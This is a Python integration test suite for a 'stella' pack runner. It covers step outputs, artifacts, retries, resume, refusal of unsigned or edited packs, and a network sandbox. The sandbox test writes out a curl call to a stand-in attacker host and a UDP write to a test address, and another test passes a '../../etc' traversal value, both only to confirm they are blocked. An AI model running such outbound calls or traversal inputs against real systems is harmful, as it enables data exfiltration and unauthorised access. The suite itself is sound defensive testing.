# SPDX-License-Identifier: Apache-2.0
"""Runs to their end with the built binary: outputs, artifacts, failures, retries, what is refused before a run."""
import json
import os

from harness import main
from run_site import RunTest


class Finishing(RunTest):
    def test_runs_steps_hands_outputs_on_and_stores_artifacts(self):
        result = self.run_pack([
            self.step("make", "echo hello; printf 'ready=yes\\n' > \"$STELLA_OUTPUT\"; echo '{}' > /artifacts/report.json"),
            {"id": "use", "when": "steps.make.outputs.ready == 'yes'", "run": {"command": ["echo", "${{ steps.make.outputs.ready }}"]}},
            {"id": "not", "when": "steps.make.outputs.ready == 'no'", "run": {"command": ["false"]}},
        ], outputs=[{"name": "report", "type": "file", "path": "report.json"}])
        self.assertEqual((result["state"], result["exit"], result["code"], result["attempt"]), ("succeeded", 0, None, 1))
        self.assertTrue(result["planHash"].startswith("sha256:"))
        self.assertEqual([step["state"] for step in result["steps"]], ["succeeded", "succeeded", "skipped"])
        logs = self.stella("pack", "runs", "logs", result["runId"])
        self.assertEqual(logs.out, "make | hello\nuse | yes\n")
        self.assertEqual(self.stella("pack", "runs", "logs", "--run", result["runId"], "--step", "use").out, "use | yes\n")
        self.assertTrue(os.path.isdir(result["evidence"]), result)

    def test_streams_lines_with_their_step(self):
        bundle = self.pack("job", [self.step("say", "echo one; echo two >&2; printf '\\033[31mred\\n'")])
        result = self.stella("pack", "run", "--bundle", bundle)
        for line in ("say | one", "say | two", "say | \\x1b[31mred"):
            self.assertIn(line, result.err)
        run = self.last_run()
        self.assertIn(b"\x1b[31mred", self.stella("pack", "runs", "logs", run, "--raw").out.encode())

    def test_ndjson_gives_events_then_the_result(self):
        bundle = self.pack("job", [self.step("a", "true")])
        lines = [json.loads(line) for line in self.stella("--output", "ndjson", "pack", "run", "--bundle", bundle).out.splitlines()]
        self.assertEqual(lines[-1]["state"], "succeeded")
        self.assertIn("pack.step.finished", [line.get("type") for line in lines])

    def test_fails_with_the_steps_status_and_resumes_as_a_new_attempt(self):
        result = self.run_pack([self.step("one", "echo x >> /work/ones"), self.step("two", "test -e /work/mended")], expect=1)
        self.assertEqual((result["state"], result["code"], result["exit"]), ("failed", "ERR_PACK_STEP_FAILED", 1))
        run = result["runId"]
        dry = self.stella("--output", "json", "pack", "runs", "resume", run, "--dry-run").json
        self.assertEqual([row["what"] for row in dry["steps"]], ["reused", "rerun"])
        with open(os.path.join(result["folder"], "work", "mended"), "w", encoding="utf-8"):
            pass
        again = self.stella("--output", "json", "pack", "runs", "resume", "--run", run).json
        self.assertEqual((again["state"], again["attempt"]), ("succeeded", 2))
        self.assertEqual(len(self.read(os.path.join(result["folder"], "work", "ones"), "r").splitlines()), 1)
        self.assertEqual(self.stella("--output", "json", "pack", "run", "--resume", run).json["state"], "succeeded")

    def test_missing_output_fails_the_run(self):
        result = self.run_pack([self.step("a", "true")], expect=1, outputs=[{"name": "report", "type": "file", "path": "report.json"}])
        self.assertEqual((result["code"], result["reason"]), ("ERR_PACK_STEP_FAILED", "output"))

    def test_timeout(self):
        result = self.run_pack([self.step("slow", "sleep 60", timeout="PT1S")], expect=1)
        self.assertEqual((result["code"], result["steps"][0]["reason"]), ("ERR_PACK_STEP_TIMEOUT", "timeout"))

    def test_retries_until_it_works(self):
        result = self.run_pack([self.step("flaky", "echo x >> /work/n; test $(wc -l < /work/n) -ge 3", retries={"maxAttempts": 3, "backoffSeconds": 0})])
        self.assertEqual(result["steps"][0]["tries"], 3)

    def test_continues_after_an_error_where_the_pack_says_so(self):
        result = self.run_pack([self.step("bad", "exit 4", continueOnError=True), self.step("next", "true")])
        self.assertEqual([step["state"] for step in result["steps"]], ["continued", "succeeded"])

    def test_folders_too_deep_to_list_do_not_keep_a_run_from_its_evidence(self):
        deep = "import os\nos.chdir('/artifacts')\nfor i in range(300):\n os.mkdir('d'); os.chdir('d')"
        result = self.run_pack([self.step("dig", f'echo kept > /artifacts/note; chmod 000 /artifacts/note; python3 -c "{deep}"')])
        self.assertTrue(os.path.isdir(result["evidence"] or ""), result)
        left_out = json.loads(self.read(os.path.join(result["evidence"], "names.json")))["leftOut"]
        self.assertIn("could not be listed", " ".join(row["why"] for row in left_out))

    def test_policy_gate(self):
        steps = [{"id": "window", "gate.policy": {"expression": "inputs.dry == `false`", "message": "dry runs do not flash"}}, self.step("a", "true")]
        result = self.run_pack(steps, expect=1, inputs=[{"name": "dry", "type": "boolean", "default": True}])
        self.assertEqual(result["reason"], "policy")

    def test_bad_step_output(self):
        result = self.run_pack([self.step("a", "echo 'no equals' > \"$STELLA_OUTPUT\"")], expect=1)
        self.assertEqual(result["reason"], "output-format")


class Refusing(RunTest):
    def test_another_plan_than_was_asked_for(self):
        bundle = self.pack("job", [self.step("a", "true")])
        self.refused("ERR_PACK_HASH_MISMATCH", "pack", "run", "--bundle", bundle, "--plan-hash", "sha256:" + "0" * 64, reason="asked")
        self.assertEqual(self.stella("--output", "json", "pack", "runs", "list").json["runs"], [])
        plan = self.stella("--output", "json", "pack", "plan", "--bundle", bundle).json["planHash"]
        self.stella("pack", "run", "--bundle", bundle, "--plan-hash", plan)

    def test_unsigned_packs_and_missing_ones(self):
        self.refused("ERR_PACK_SIGNATURE", "pack", "run", "--bundle", self.pack("job", [self.step("a", "true")], key=None), reason="unsigned")
        self.refused("ERR_PACK_NOT_FOUND", "pack", "run", "--pack", "job:9.9.9")
        self.refused("ERR_FILE_NOT_FOUND", "pack", "run", "--bundle", self.path("nothing.pack"))

    def test_usage(self):
        self.refused("ERR_USAGE", "pack", "run")
        self.refused("ERR_USAGE", "pack", "runs", "show")
        self.refused("ERR_RUN_NOT_FOUND", "pack", "runs", "show", "run:plant-7:20200101T000000000Z")
        self.refused("ERR_RUN_NOT_FOUND", "pack", "runs", "resume", "--run", "../../etc")

    def test_secrets_file_in_sealed_mode(self):
        bundle = self.pack("job", [self.step("a", "true")])
        secrets = self.write("secrets.json", "{}")
        self.refused("ERR_PACK_SECRET_SOURCE", "pack", "run", "--bundle", bundle, "--secrets", secrets)

    def test_a_stored_plan_pack_or_input_that_was_edited(self):
        result = self.run_pack([self.step("a", "false")], expect=1)
        for name, edit in (("plan.json", lambda text: text.replace(b"false", b"true ")), ("inputs.json", lambda text: b'{"x":1}'), ("bundle.pack", lambda text: text[:-2000])):
            path = os.path.join(result["folder"], name)
            before = self.read(path)
            with open(path, "wb") as handle:
                handle.write(edit(before))
            refused = self.stella("--output", "json", "pack", "runs", "resume", result["runId"], expect=None)
            self.assertIn(refused.status, (2, 6), str(refused))
            with open(path, "wb") as handle:
                handle.write(before)

    def test_a_pack_that_the_policy_has_denied_since(self):
        result = self.run_pack([self.step("a", "false")], expect=1)
        self.apply(self.policy(version=2, denied=[{"pack": "job:1.0.0", "reason": "bricks rev B"}]))
        self.refused("ERR_PACK_SIGNATURE", "pack", "runs", "resume", result["runId"], reason="denied")


class Wall(RunTest):
    def test_blocked_attempts_fail_the_run_and_name_the_line(self):
        script = "curl -s --max-time 5 http://evil.example/ || true; exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3 || true"
        bundle = self.pack("job", [{"id": "out", "run": {"command": ["bash", "-c", script]}}])
        result = self.stella("--output", "json", "pack", "run", "--bundle", bundle, expect=5)
        self.assertEqual(result.error["code"], "ERR_PACK_NETWORK_BLOCKED")
        self.assertIn("192.0.2.1", result.error["fix"])
        blocked = result.json["blocked"]
        self.assertTrue(any(row["address"] == "192.0.2.1" and row["port"] == 53 and row["protocol"] == "udp" for row in blocked), blocked)
        self.assertEqual({row["step"] for row in blocked}, {"out"})
        self.assertEqual(result.json["state"], "failed")


if __name__ == "__main__":
    main()
